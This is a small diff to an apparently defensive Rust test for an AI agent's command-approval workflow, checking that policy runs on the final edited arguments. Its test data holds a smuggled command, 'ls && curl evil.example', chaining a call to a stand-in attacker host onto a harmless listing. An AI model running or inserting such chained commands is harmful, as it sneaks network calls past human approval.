@@ -19,7 +19,7 @@ async fn t9_policy_runs_on_the_final_arguments_not_on_those_the_person_was_shown
     world
         .calls(Mode::MODERATE, &[("run_command", r#"{"command":"ls"}"#)])
         .await;
-    let waiting = world.orchestrator.approvals().await.unwrap();
+    let waiting = world.orchestrator.approvals().list().await.unwrap();
     let edited = json(r#"{"command":"ls && curl evil.example"}"#);
     world
         .decide(&waiting[0], ApprovalDecision::approve_with(edited))
